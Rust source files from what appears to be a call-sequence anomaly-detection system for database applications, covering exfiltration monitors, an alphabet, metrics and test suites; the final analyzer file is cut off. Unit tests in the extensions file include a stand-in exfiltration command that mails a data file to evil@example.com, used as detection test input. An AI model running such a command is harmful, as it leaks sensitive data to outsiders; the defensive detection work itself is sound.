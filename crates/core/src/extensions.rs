//! §VII mitigations, implemented as composable monitors on top of the base
//! Detection Engine.
//!
//! The paper names two evasions its core system cannot catch and sketches
//! the fixes; both are built here:
//!
//! 1. **Selectivity mimicry** — an attacker who knows only call sequences
//!    are profiled can issue a *different query with similar selectivity*
//!    and leave the call sequence unchanged. Fix: "recording queries
//!    signatures along with library calls". [`QuerySignatureMonitor`]
//!    learns the set of query signatures (statement skeletons, see
//!    `adprom_db::query_signature`) issued during training and flags any
//!    run-time submission whose signature was never seen.
//!
//! 2. **Indirect exfiltration through files** — "storing the TD to a file
//!    and then send\[ing\] the file over a network". Fix: "when a call like
//!    fprintf, write, or fwrite is issued and the data flow analysis
//!    indicates that the call stores TD, the file is labeled. Then,
//!    actions on such files are monitored". [`FileLabelMonitor`] labels
//!    every file a `*_Q`-labeled write touches and flags subsequent
//!    `system`/`remove`/read actions that reference a labeled file.
//!
//! Both monitors consume the *extended* event stream (the interpreter run
//! with [`ExecConfig::extended_events`](adprom_trace::ExecConfig) set), so
//! the baseline collector's "names only" cost model is untouched.

use adprom_trace::CallEvent;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// An alert raised by an extension monitor.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ExtensionAlert {
    /// Which monitor fired.
    pub kind: ExtensionKind,
    /// The offending call name.
    pub call: String,
    /// The issuing function.
    pub caller: String,
    /// What was unexpected (the unseen signature / the labeled file).
    pub subject: String,
}

/// Extension monitor kinds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ExtensionKind {
    /// A query whose signature was never seen in training.
    UnknownQuerySignature,
    /// An action on a file that holds labeled (TD) data.
    LabeledFileAction,
}

/// Learns the training-time query-signature catalogue and flags unseen
/// signatures at detection time.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct QuerySignatureMonitor {
    known: BTreeSet<String>,
}

impl QuerySignatureMonitor {
    /// Learns every query signature present in the training traces.
    pub fn learn(traces: &[Vec<CallEvent>]) -> QuerySignatureMonitor {
        let mut known = BTreeSet::new();
        for trace in traces {
            for e in trace {
                if e.call.is_query_submission() {
                    if let Some(sig) = &e.detail {
                        known.insert(sig.clone());
                    }
                }
            }
        }
        QuerySignatureMonitor { known }
    }

    /// Number of distinct signatures learned.
    pub fn len(&self) -> usize {
        self.known.len()
    }

    /// True when no signatures were learned.
    pub fn is_empty(&self) -> bool {
        self.known.is_empty()
    }

    /// True if the signature was seen in training.
    pub fn knows(&self, signature: &str) -> bool {
        self.known.contains(signature)
    }

    /// Checks a single event.
    pub fn check(&self, event: &CallEvent) -> Option<ExtensionAlert> {
        if !event.call.is_query_submission() {
            return None;
        }
        let sig = event.detail.as_ref()?;
        if self.knows(sig) {
            None
        } else {
            Some(ExtensionAlert {
                kind: ExtensionKind::UnknownQuerySignature,
                call: event.name.to_string(),
                caller: event.caller.to_string(),
                subject: sig.clone(),
            })
        }
    }

    /// Scans a whole trace.
    pub fn scan(&self, trace: &[CallEvent]) -> Vec<ExtensionAlert> {
        trace.iter().filter_map(|e| self.check(e)).collect()
    }
}

/// Tracks files that received labeled (TD) data and flags later actions on
/// them: shelling out (`system` with the path on the command line),
/// re-reading, or deleting the evidence.
#[derive(Debug, Clone, Default)]
pub struct FileLabelMonitor {
    labeled: BTreeSet<String>,
    alerts: Vec<ExtensionAlert>,
}

impl FileLabelMonitor {
    /// Creates an empty monitor.
    pub fn new() -> FileLabelMonitor {
        FileLabelMonitor::default()
    }

    /// Files currently labeled as holding the TD.
    pub fn labeled_files(&self) -> impl Iterator<Item = &str> {
        self.labeled.iter().map(String::as_str)
    }

    /// Alerts raised so far.
    pub fn alerts(&self) -> &[ExtensionAlert] {
        &self.alerts
    }

    /// Feeds one event through the monitor.
    pub fn observe(&mut self, event: &CallEvent) {
        let is_labeled_write = event.call.is_output_sink() && event.name.contains("_Q");
        if is_labeled_write {
            if let Some(path) = &event.detail {
                self.labeled.insert(path.clone());
            }
            return;
        }
        // Actions referencing a labeled file.
        let Some(detail) = &event.detail else {
            return;
        };
        let touches_labeled = self
            .labeled
            .iter()
            .any(|path| detail == path || detail.contains(path.as_str()));
        if !touches_labeled {
            return;
        }
        let suspicious = matches!(
            event.call,
            adprom_lang::LibCall::System
                | adprom_lang::LibCall::Remove
                | adprom_lang::LibCall::Fread
                | adprom_lang::LibCall::Fgets
        );
        if suspicious {
            self.alerts.push(ExtensionAlert {
                kind: ExtensionKind::LabeledFileAction,
                call: event.name.to_string(),
                caller: event.caller.to_string(),
                subject: detail.clone(),
            });
        }
    }

    /// Scans a whole trace (stateful: labels persist across the scan).
    pub fn scan(&mut self, trace: &[CallEvent]) -> usize {
        let before = self.alerts.len();
        for e in trace {
            self.observe(e);
        }
        self.alerts.len() - before
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::{CallSiteId, LibCall};

    fn event(name: &str, call: LibCall, detail: Option<&str>) -> CallEvent {
        CallEvent {
            name: name.into(),
            call,
            caller: "main".into(),
            site: CallSiteId(0),
            detail: detail.map(str::to_string),
        }
    }

    #[test]
    fn unknown_signature_is_flagged() {
        let training = vec![vec![event(
            "PQexec",
            LibCall::PQexec,
            Some("SELECT * FROM clients WHERE id=?"),
        )]];
        let monitor = QuerySignatureMonitor::learn(&training);
        assert_eq!(monitor.len(), 1);

        // Same skeleton, different constant: known.
        assert!(monitor
            .check(&event(
                "PQexec",
                LibCall::PQexec,
                Some("SELECT * FROM clients WHERE id=?")
            ))
            .is_none());
        // Structurally different query (the mimicry evasion): flagged.
        let alert = monitor
            .check(&event(
                "PQexec",
                LibCall::PQexec,
                Some("SELECT * FROM clients WHERE (id=? OR ?=?)"),
            ))
            .expect("unseen signature flagged");
        assert_eq!(alert.kind, ExtensionKind::UnknownQuerySignature);
    }

    #[test]
    fn non_query_events_are_ignored() {
        let monitor = QuerySignatureMonitor::default();
        assert!(monitor
            .check(&event("printf", LibCall::Printf, Some("whatever")))
            .is_none());
    }

    #[test]
    fn labeled_file_then_system_is_flagged() {
        let mut monitor = FileLabelMonitor::new();
        // TD written to a file through a labeled fprintf.
        monitor.observe(&event(
            "fprintf_Q12",
            LibCall::Fprintf,
            Some("statement.txt"),
        ));
        assert_eq!(monitor.labeled_files().count(), 1);
        // The exfiltration step: mail the file out.
        monitor.observe(&event(
            "system",
            LibCall::System,
            Some("mail evil@example.com < statement.txt"),
        ));
        assert_eq!(monitor.alerts().len(), 1);
        assert_eq!(monitor.alerts()[0].kind, ExtensionKind::LabeledFileAction);
    }

    #[test]
    fn unlabeled_file_actions_pass() {
        let mut monitor = FileLabelMonitor::new();
        monitor.observe(&event("fprintf", LibCall::Fprintf, Some("notes.txt")));
        monitor.observe(&event(
            "system",
            LibCall::System,
            Some("mail evil@example.com < notes.txt"),
        ));
        assert!(monitor.alerts().is_empty());
    }

    #[test]
    fn deleting_the_evidence_is_flagged() {
        let mut monitor = FileLabelMonitor::new();
        monitor.observe(&event("fwrite_Q3", LibCall::Fwrite, Some("exfil.dat")));
        monitor.observe(&event("remove", LibCall::Remove, Some("exfil.dat")));
        assert_eq!(monitor.alerts().len(), 1);
    }
}
