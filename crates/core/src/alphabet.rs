//! The observation alphabet: maps call labels (possibly DDG-decorated) to
//! HMM symbol indices.
//!
//! A reserved `<unk>` symbol absorbs calls never seen during training —
//! the A-S2 synthetic anomaly injects exactly such calls, and the alphabet
//! must encode rather than reject them so the Detection Engine can score
//! (and flag) the window.

use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// Reserved name for out-of-vocabulary observations.
pub const UNKNOWN: &str = "<unk>";

/// A fixed observation alphabet.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alphabet {
    symbols: Vec<String>,
    #[serde(skip)]
    index: HashMap<String, usize>,
}

impl Alphabet {
    /// Builds an alphabet from label names; `<unk>` is appended
    /// automatically. Duplicates are collapsed.
    pub fn new(labels: impl IntoIterator<Item = String>) -> Alphabet {
        let mut symbols: Vec<String> = Vec::new();
        for l in labels {
            if l != UNKNOWN && !symbols.contains(&l) {
                symbols.push(l);
            }
        }
        symbols.push(UNKNOWN.to_string());
        let index = symbols
            .iter()
            .enumerate()
            .map(|(i, s)| (s.clone(), i))
            .collect();
        Alphabet { symbols, index }
    }

    /// Rebuilds the internal index after deserialization.
    pub fn rebuild_index(&mut self) {
        self.index = self
            .symbols
            .iter()
            .enumerate()
            .map(|(i, s)| (s.clone(), i))
            .collect();
    }

    /// Number of symbols (including `<unk>`).
    pub fn len(&self) -> usize {
        self.symbols.len()
    }

    /// True if only `<unk>` exists.
    pub fn is_empty(&self) -> bool {
        self.symbols.len() <= 1
    }

    /// The symbol id of `<unk>`.
    pub fn unknown(&self) -> usize {
        self.symbols.len() - 1
    }

    /// Symbol id of a label (`<unk>` id when absent).
    pub fn encode(&self, label: &str) -> usize {
        self.index.get(label).copied().unwrap_or(self.unknown())
    }

    /// Encodes a label sequence.
    pub fn encode_seq(&self, labels: &[String]) -> Vec<usize> {
        labels.iter().map(|l| self.encode(l)).collect()
    }

    /// Label of a symbol id.
    pub fn decode(&self, id: usize) -> &str {
        &self.symbols[id]
    }

    /// All symbol names.
    pub fn symbols(&self) -> &[String] {
        &self.symbols
    }

    /// True if the label is in-vocabulary (not mapped to `<unk>`).
    pub fn contains(&self, label: &str) -> bool {
        self.index.contains_key(label)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodes_known_and_unknown() {
        let a = Alphabet::new(vec!["printf".to_string(), "PQexec".to_string()]);
        assert_eq!(a.len(), 3);
        assert_eq!(a.encode("printf"), 0);
        assert_eq!(a.encode("PQexec"), 1);
        assert_eq!(a.encode("evil_call"), a.unknown());
        assert_eq!(a.decode(a.unknown()), UNKNOWN);
    }

    #[test]
    fn deduplicates() {
        let a = Alphabet::new(vec!["x".to_string(), "x".to_string()]);
        assert_eq!(a.len(), 2);
    }

    #[test]
    fn round_trips_sequences() {
        let a = Alphabet::new(vec!["a".to_string(), "b".to_string()]);
        let seq = vec!["a".to_string(), "b".to_string(), "zzz".to_string()];
        let ids = a.encode_seq(&seq);
        assert_eq!(ids, vec![0, 1, a.unknown()]);
    }
}
