//! Accuracy metrics (§V-D): confusion matrices and the FP/FN/precision/
//! recall/accuracy definitions the paper evaluates with.

use serde::{Deserialize, Serialize};
use std::fmt;

/// A binary confusion matrix over sequence classifications.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Confusion {
    /// Anomalous sequences correctly flagged.
    pub tp: usize,
    /// Normal sequences correctly passed.
    pub tn: usize,
    /// Normal sequences incorrectly flagged.
    pub fp: usize,
    /// Anomalous sequences missed.
    pub fn_: usize,
}

impl Confusion {
    /// Records one classification outcome.
    pub fn record(&mut self, truly_anomalous: bool, flagged: bool) {
        match (truly_anomalous, flagged) {
            (true, true) => self.tp += 1,
            (true, false) => self.fn_ += 1,
            (false, true) => self.fp += 1,
            (false, false) => self.tn += 1,
        }
    }

    /// Total sequences.
    pub fn total(&self) -> usize {
        self.tp + self.tn + self.fp + self.fn_
    }

    /// FP rate = FP / (FP + TN).
    pub fn fp_rate(&self) -> f64 {
        ratio(self.fp, self.fp + self.tn)
    }

    /// FN rate = FN / (FN + TP).
    pub fn fn_rate(&self) -> f64 {
        ratio(self.fn_, self.fn_ + self.tp)
    }

    /// Precision = TP / (TP + FP).
    pub fn precision(&self) -> f64 {
        ratio(self.tp, self.tp + self.fp)
    }

    /// Recall = TP / (TP + FN).
    pub fn recall(&self) -> f64 {
        ratio(self.tp, self.tp + self.fn_)
    }

    /// Accuracy = (TP + TN) / total.
    pub fn accuracy(&self) -> f64 {
        ratio(self.tp + self.tn, self.total())
    }

    /// Merges another confusion matrix into this one.
    pub fn merge(&mut self, other: &Confusion) {
        self.tp += other.tp;
        self.tn += other.tn;
        self.fp += other.fp;
        self.fn_ += other.fn_;
    }
}

fn ratio(num: usize, den: usize) -> f64 {
    if den == 0 {
        0.0
    } else {
        num as f64 / den as f64
    }
}

impl fmt::Display for Confusion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "TP={} TN={} FP={} FN={} | Rec={:.2} Prec={:.2} Acc={:.4}",
            self.tp,
            self.tn,
            self.fp,
            self.fn_,
            self.recall(),
            self.precision(),
            self.accuracy()
        )
    }
}

/// One point on a Fig. 10-style curve.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct RocPoint {
    /// Threshold producing this point.
    pub threshold: f64,
    /// False-positive rate at this threshold.
    pub fp_rate: f64,
    /// False-negative rate at this threshold.
    pub fn_rate: f64,
}

/// Builds an FP-rate → FN-rate curve by sweeping thresholds over the score
/// distributions of normal and anomalous windows (lower score = more
/// anomalous). Points are sorted by FP rate.
pub fn roc_curve(normal_scores: &[f64], anomalous_scores: &[f64], steps: usize) -> Vec<RocPoint> {
    let mut all: Vec<f64> = normal_scores
        .iter()
        .chain(anomalous_scores)
        .copied()
        .filter(|v| v.is_finite())
        .collect();
    if all.is_empty() {
        return Vec::new();
    }
    all.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    let lo = all[0] - 1.0;
    let hi = all[all.len() - 1] + 1.0;
    let steps = steps.max(2);
    let mut points: Vec<RocPoint> = (0..=steps)
        .map(|i| {
            let t = lo + (hi - lo) * i as f64 / steps as f64;
            let fp = normal_scores
                .iter()
                .filter(|&&s| !s.is_finite() || s < t)
                .count();
            let fnn = anomalous_scores
                .iter()
                .filter(|&&s| s.is_finite() && s >= t)
                .count();
            RocPoint {
                threshold: t,
                fp_rate: fp as f64 / normal_scores.len().max(1) as f64,
                fn_rate: fnn as f64 / anomalous_scores.len().max(1) as f64,
            }
        })
        .collect();
    points.sort_by(|a, b| {
        a.fp_rate
            .partial_cmp(&b.fp_rate)
            .unwrap_or(std::cmp::Ordering::Equal)
    });
    points
}

/// FN rate interpolated at a target FP rate — how Fig. 10 compares systems
/// "under the same FP rates".
pub fn fn_rate_at_fp(points: &[RocPoint], target_fp: f64) -> f64 {
    let mut best: Option<&RocPoint> = None;
    for p in points {
        if p.fp_rate <= target_fp {
            best = match best {
                None => Some(p),
                Some(b) if p.fp_rate > b.fp_rate => Some(p),
                Some(b) if (p.fp_rate - b.fp_rate).abs() < 1e-12 && p.fn_rate < b.fn_rate => {
                    Some(p)
                }
                other => other,
            };
        }
    }
    best.map(|p| p.fn_rate).unwrap_or(1.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn confusion_matches_table_vii_shape() {
        // App1 row of Table VII: 1245 sequences, TP=91, TN=1148, FP=6, FN=0.
        let c = Confusion {
            tp: 91,
            tn: 1148,
            fp: 6,
            fn_: 0,
        };
        assert_eq!(c.total(), 1245);
        assert!((c.recall() - 1.0).abs() < 1e-12);
        assert!((c.precision() - 0.938).abs() < 0.01);
        assert!((c.accuracy() - 0.9952).abs() < 0.0005);
    }

    #[test]
    fn record_routes_outcomes() {
        let mut c = Confusion::default();
        c.record(true, true);
        c.record(true, false);
        c.record(false, true);
        c.record(false, false);
        assert_eq!((c.tp, c.fn_, c.fp, c.tn), (1, 1, 1, 1));
        assert_eq!(c.fp_rate(), 0.5);
        assert_eq!(c.fn_rate(), 0.5);
    }

    #[test]
    fn roc_curve_separable_scores_reach_zero_zero() {
        // Perfectly separable: normals ≫ anomalies.
        let normal: Vec<f64> = (0..50).map(|i| -10.0 - i as f64 * 0.01).collect();
        let anomalous: Vec<f64> = (0..50).map(|i| -100.0 - i as f64 * 0.01).collect();
        let pts = roc_curve(&normal, &anomalous, 100);
        // Some threshold achieves FP=0 and FN=0.
        assert!(pts.iter().any(|p| p.fp_rate == 0.0 && p.fn_rate == 0.0));
    }

    #[test]
    fn fn_rate_at_fp_picks_closest_below() {
        let pts = vec![
            RocPoint {
                threshold: -30.0,
                fp_rate: 0.0,
                fn_rate: 0.4,
            },
            RocPoint {
                threshold: -20.0,
                fp_rate: 0.05,
                fn_rate: 0.1,
            },
            RocPoint {
                threshold: -10.0,
                fp_rate: 0.2,
                fn_rate: 0.0,
            },
        ];
        assert_eq!(fn_rate_at_fp(&pts, 0.1), 0.1);
        assert_eq!(fn_rate_at_fp(&pts, 0.0), 0.4);
        assert_eq!(fn_rate_at_fp(&pts, 0.5), 0.0);
    }

    #[test]
    fn merge_accumulates() {
        let mut a = Confusion {
            tp: 1,
            tn: 2,
            fp: 3,
            fn_: 4,
        };
        a.merge(&a.clone());
        assert_eq!(a.total(), 20);
    }
}
