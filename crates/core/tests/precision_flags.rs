//! Property test pinning the precision policy's contract: under
//! `Precision::F32Verified` the Detection Engine raises exactly the same
//! flags as pure f64 — across dense, sparse and beam kernels, window
//! sizes, and thresholds deliberately planted in the middle of the score
//! distribution so windows land inside the guard band.

use adprom_core::{Alphabet, DetectionEngine, KernelConfig, Precision, Profile};
use adprom_hmm::{BeamConfig, Hmm, SparseConfig};
use adprom_lang::{CallSiteId, LibCall};
use adprom_trace::CallEvent;
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};

/// Call-name vocabulary: three plain calls plus a DDG-labeled output, so
/// anomalous windows can upgrade to DataLeak.
const NAMES: [&str; 4] = ["read_rec", "fmt_row", "send_row", "flush_Q3"];

/// Case count: `PROPTEST_CASES` when set (CI runs this suite at 512),
/// else the local default.
fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn event(name: &str, caller: &str) -> CallEvent {
    CallEvent {
        name: name.into(),
        call: LibCall::Printf,
        caller: caller.into(),
        site: CallSiteId(0),
        detail: None,
    }
}

/// A random smoothed profile over the fixed vocabulary. The threshold is
/// a placeholder; tests re-plant it inside the observed score range.
fn arb_profile() -> impl Strategy<Value = Profile> {
    (2usize..6, any::<u64>(), 1usize..6).prop_map(|(n, seed, window)| {
        let alphabet = Alphabet::new(NAMES.iter().map(|s| s.to_string()));
        let m = alphabet.len();
        let mut hmm = Hmm::random(n, m, seed);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in NAMES {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "precision-prop".into(),
            alphabet,
            hmm,
            window,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["flush_Q3".to_string()],
        }
    })
}

/// An event stream mixing in-vocabulary calls, an out-of-vocabulary name,
/// and an out-of-context caller — every flag is reachable.
fn arb_events() -> impl Strategy<Value = Vec<CallEvent>> {
    prop::collection::vec((0usize..6, any::<bool>()), 1..60).prop_map(|picks| {
        picks
            .into_iter()
            .map(|(pick, stranger)| {
                let name = *NAMES.get(pick).unwrap_or(&"evil_exfil");
                let caller = if stranger { "stranger" } else { "main" };
                event(name, caller)
            })
            .collect()
    })
}

/// Median of the f64 engine's window scores, jittered by up to ±0.3 nats:
/// a threshold that parks real windows inside the 0.25-nat guard band.
fn plant_threshold(profile: &Profile, events: &[CallEvent], jitter: f64) -> f64 {
    let engine = DetectionEngine::new(profile)
        .with_kernel(KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        })
        .with_precision(Precision::F64);
    let mut lls: Vec<f64> = engine
        .scan(events)
        .iter()
        .map(|a| a.log_likelihood)
        .filter(|ll| ll.is_finite())
        .collect();
    if lls.is_empty() {
        return -5.0;
    }
    lls.sort_by(|a, b| a.total_cmp(b));
    lls[lls.len() / 2] + jitter
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(48)))]

    /// f32-verified flags are identical to pure-f64 flags for every
    /// window, on every kernel, with the threshold planted mid-range so
    /// the guard band actually fires.
    #[test]
    fn f32_verified_flags_match_f64(
        profile in arb_profile(),
        events in arb_events(),
        jitter in -0.3f64..0.3,
    ) {
        let mut profile = profile;
        profile.threshold = plant_threshold(&profile, &events, jitter);
        let kernels = [
            KernelConfig::Dense,
            KernelConfig::Sparse { sparse: SparseConfig::default() },
            KernelConfig::Beam {
                sparse: SparseConfig::default(),
                beam: BeamConfig { top_k: Some(3), mass_epsilon: 0.0 },
            },
        ];
        for kernel in kernels {
            let exact = DetectionEngine::new(&profile)
                .with_kernel(kernel)
                .with_precision(Precision::F64);
            let fast = DetectionEngine::new(&profile)
                .with_kernel(kernel)
                .with_precision(Precision::f32_verified());
            let exact_alerts = exact.scan(&events);
            let fast_alerts = fast.scan(&events);
            prop_assert_eq!(exact_alerts.len(), fast_alerts.len());
            for (i, (e, f)) in exact_alerts.iter().zip(&fast_alerts).enumerate() {
                prop_assert_eq!(
                    e.flag, f.flag,
                    "kernel {} window {i}: f64 flagged {:?} (ll {}) but \
                     f32-verified flagged {:?} (ll {}) at threshold {}",
                    kernel.label(), e.flag, e.log_likelihood, f.flag,
                    f.log_likelihood, profile.threshold
                );
            }
        }
    }

    /// Any window the f32 path accepts (outside the guard band) scores
    /// within the band of its f64 value, so the accept decision is the
    /// one f64 would have made; rescored windows carry the f64 score
    /// exactly. Together: batch scores through the precision policy never
    /// disagree with f64 about the threshold side.
    #[test]
    fn f32_scores_stay_on_the_f64_side(
        profile in arb_profile(),
        events in arb_events(),
        jitter in -0.3f64..0.3,
    ) {
        let mut profile = profile;
        profile.threshold = plant_threshold(&profile, &events, jitter);
        let sparse = KernelConfig::Sparse { sparse: SparseConfig::default() };
        let exact = DetectionEngine::new(&profile)
            .with_kernel(sparse)
            .with_precision(Precision::F64);
        let fast = DetectionEngine::new(&profile)
            .with_kernel(sparse)
            .with_precision(Precision::f32_verified());
        let band = Precision::DEFAULT_GUARD_BAND;
        for (e, f) in exact.scan(&events).iter().zip(&fast.scan(&events)) {
            let below_exact = e.log_likelihood < profile.threshold;
            let below_fast = f.log_likelihood < profile.threshold;
            prop_assert_eq!(below_exact, below_fast,
                "threshold side flipped: f64 {} vs f32-verified {} at {}",
                e.log_likelihood, f.log_likelihood, profile.threshold);
            if !e.log_likelihood.is_finite() {
                // Dead windows rescore in f64 and carry −∞ on both sides.
                prop_assert_eq!(e.log_likelihood, f.log_likelihood);
                continue;
            }
            prop_assert!((e.log_likelihood - f.log_likelihood).abs() <= band,
                "accepted f32 score {} drifted past the guard band from f64 {}",
                f.log_likelihood, e.log_likelihood);
        }
    }
}
