//! Monte Carlo validation of the probability forecast and aggregation.
//!
//! The pCTM entry for a call pair `(c_i → c_j)` is the expected number of
//! times `c_j` immediately follows `c_i` in one program execution, under
//! the static model's semantics: every branch is taken uniformly at random
//! and every node executes at most once (loops cut, §IV-C1). That
//! expectation can be estimated directly by *simulating* the CFGs — walking
//! from ε to ε′, choosing successors uniformly, descending into callees —
//! entirely independently of the forecast/CTM/aggregation code paths. The
//! two must agree; this catches exactly the class of bug the paper's eq. 10
//! typo would introduce (see DESIGN.md).

use adprom_analysis::{analyze, Analysis, CallLabel, ENTRY, EXIT};
use adprom_lang::{parse_program, Callee};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::HashMap;

/// Simulates one run, appending emitted observation labels.
fn walk(analysis: &Analysis, func: &str, rng: &mut StdRng, out: &mut Vec<String>) {
    let cfg = analysis
        .cfgs
        .iter()
        .find(|c| c.func == func)
        .expect("function has a CFG");
    let mut node = ENTRY;
    loop {
        if let Some(call) = &cfg.nodes[node].call {
            match &call.callee {
                Callee::Library(lc) => {
                    let label = analysis
                        .site_labels
                        .get(&call.site)
                        .cloned()
                        .unwrap_or_else(|| lc.name().to_string());
                    out.push(label);
                }
                Callee::User(name) => walk(analysis, name, rng, out),
            }
        }
        if node == EXIT {
            return;
        }
        let succs = &cfg.succ[node];
        if succs.is_empty() {
            return; // unreachable dead end
        }
        node = succs[rng.gen_range(0..succs.len())];
    }
}

/// Estimates pair expectations over `runs` simulations and compares every
/// pCTM entry (including ε/ε′ rows and columns).
fn check_program(src: &str, runs: usize, tolerance: f64) {
    let prog = parse_program(src).expect("parses");
    let analysis = analyze(&prog);

    let mut counts: HashMap<(String, String), f64> = HashMap::new();
    let mut rng = StdRng::seed_from_u64(0x5EED_CA11);
    for _ in 0..runs {
        let mut seq = vec!["ε".to_string()];
        walk(&analysis, "main", &mut rng, &mut seq);
        seq.push("ε'".to_string());
        for pair in seq.windows(2) {
            *counts
                .entry((pair[0].clone(), pair[1].clone()))
                .or_default() += 1.0;
        }
    }

    let labels = analysis.pctm.labels().to_vec();
    for from in &labels {
        for to in &labels {
            let expected = analysis.pctm.get(from, to);
            let observed = counts
                .get(&(from.name().to_string(), to.name().to_string()))
                .copied()
                .unwrap_or(0.0)
                / runs as f64;
            assert!(
                (expected - observed).abs() < tolerance,
                "pair ({from} → {to}): pCTM {expected:.4} vs simulated {observed:.4}"
            );
        }
    }
    // Also validate reachability-derived sanity: rows of virtual entry.
    let entry_sim: f64 = labels
        .iter()
        .map(|to| {
            counts
                .get(&("ε".to_string(), to.name().to_string()))
                .copied()
                .unwrap_or(0.0)
        })
        .sum::<f64>()
        / runs as f64;
    assert!(
        (entry_sim - 1.0).abs() < 1e-9,
        "exactly one first event per run"
    );
    let _ = CallLabel::Entry; // keep the import meaningful
}

#[test]
fn straight_line_program() {
    check_program(
        "fn main() { puts(\"a\"); printf(\"b\"); putchar(1); }",
        20_000,
        0.01,
    );
}

#[test]
fn branches_and_loops() {
    check_program(
        r#"
        fn main() {
            puts("start");
            if (a) {
                printf("left");
            } else {
                while (b) { putchar(1); }
            }
            if (c) { fputs("maybe", f); }
            puts("end");
        }
        "#,
        60_000,
        0.015,
    );
}

#[test]
fn conditionally_called_function_with_passthrough() {
    // The α < 1 + call-free-path case: the exact shape where the paper's
    // eq. 10 loses probability mass.
    check_program(
        r#"
        fn main() {
            puts("always");
            if (x) { f(); }
            printf("after");
        }
        fn f() {
            if (y) { putchar(1); }
        }
        "#,
        60_000,
        0.015,
    );
}

#[test]
fn nested_calls_with_labels() {
    check_program(
        r#"
        fn main() {
            let c = scanf();
            if (c == 1) { report(); } else { puts("skip"); }
            done();
        }
        fn report() {
            let r = PQexec(conn, "SELECT * FROM t");
            let v = PQgetvalue(r, 0, 0);
            if (v != null) {
                printf("%s", v);
            }
        }
        fn done() {
            puts("bye");
        }
        "#,
        60_000,
        0.015,
    );
}

#[test]
fn deep_call_chain_with_branch_fan() {
    check_program(
        r#"
        fn main() { a(); done(); }
        fn a() { if (p) { b(); } else { puts("noop"); } }
        fn b() { if (q) { printf("x"); } if (r) { putchar(7); } }
        fn done() { puts("bye"); }
        "#,
        80_000,
        0.02,
    );
}

#[test]
fn repeated_callee_is_a_bounded_approximation() {
    // A function invoked from *two* call sites shares one CTM label, so
    // pass-through inlining cannot represent the correlation between the
    // two invocations (e.g. P(both silent) is a second-order term). This
    // is inherent to the paper's label-merged CTM formulation — the
    // matrix stays flow-conserving and the error stays small, but exact
    // agreement with simulation is not expected here.
    let src = r#"
        fn main() { a(); a(); }
        fn a() { if (p) { b(); } else { puts("noop"); } }
        fn b() { if (q) { printf("x"); } if (r) { putchar(7); } }
    "#;
    let prog = parse_program(src).unwrap();
    let analysis = analyze(&prog);
    // Invariants still hold exactly...
    assert!((analysis.pctm.entry_row_sum() - 1.0).abs() < 1e-9);
    assert!((analysis.pctm.exit_col_sum() - 1.0).abs() < 1e-9);
    for l in analysis.pctm.labels().to_vec() {
        if !l.is_virtual() {
            assert!(analysis.pctm.flow_imbalance(&l) < 1e-9);
        }
    }
    // ...and the simulated-vs-static deviation is bounded.
    let mut counts: HashMap<(String, String), f64> = HashMap::new();
    let mut rng = StdRng::seed_from_u64(0xD00D);
    let runs = 60_000;
    for _ in 0..runs {
        let mut seq = vec!["ε".to_string()];
        walk(&analysis, "main", &mut rng, &mut seq);
        seq.push("ε'".to_string());
        for pair in seq.windows(2) {
            *counts
                .entry((pair[0].clone(), pair[1].clone()))
                .or_default() += 1.0;
        }
    }
    let mut max_dev = 0.0f64;
    for from in analysis.pctm.labels() {
        for to in analysis.pctm.labels() {
            let expected = analysis.pctm.get(from, to);
            let observed = counts
                .get(&(from.name().to_string(), to.name().to_string()))
                .copied()
                .unwrap_or(0.0)
                / runs as f64;
            max_dev = max_dev.max((expected - observed).abs());
        }
    }
    assert!(
        max_dev > 0.01,
        "this fixture is supposed to exercise the approximation"
    );
    assert!(
        max_dev < 0.10,
        "approximation error must stay bounded: {max_dev}"
    );
}
