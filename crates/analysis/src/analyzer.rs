//! The Analyzer (§IV-B1): orchestrates the whole static phase.
//!
//! Given a program it produces everything the Profile Constructor needs:
//! call graph, per-function CFGs, the DDG with labeled output sites, the
//! per-function CTMs and the aggregated pCTM — plus wall-clock timings for
//! each step (Table VIII).

use crate::aggregate::aggregate_program;
use crate::callgraph::CallGraph;
use crate::cfg::{build_cfg, Cfg};
use crate::ctm::{build_ctm, Ctm};
use crate::ddg::{analyze_ddg, Ddg};
use crate::forecast::{forecast, Forecast};
use adprom_lang::{CallSiteId, Callee, Program};
use std::collections::HashMap;
use std::time::{Duration, Instant};

/// Wall-clock cost of each analysis step (Table VIII rows).
#[derive(Debug, Clone, Copy, Default)]
pub struct AnalysisTimings {
    /// CFG construction (incl. call graph + DDG, the paper's "parsing").
    pub build_cfg: Duration,
    /// Probability estimation (conditional, reachability, transition).
    pub probabilities: Duration,
    /// Aggregation of all CTMs into the pCTM.
    pub aggregation: Duration,
}

/// Everything the static phase produces.
#[derive(Debug, Clone)]
pub struct Analysis {
    /// The call graph.
    pub cg: CallGraph,
    /// Per-function CFGs, in program function order.
    pub cfgs: Vec<Cfg>,
    /// Per-function forecasts, parallel to `cfgs`.
    pub forecasts: Vec<Forecast>,
    /// The data-dependency analysis result.
    pub ddg: Ddg,
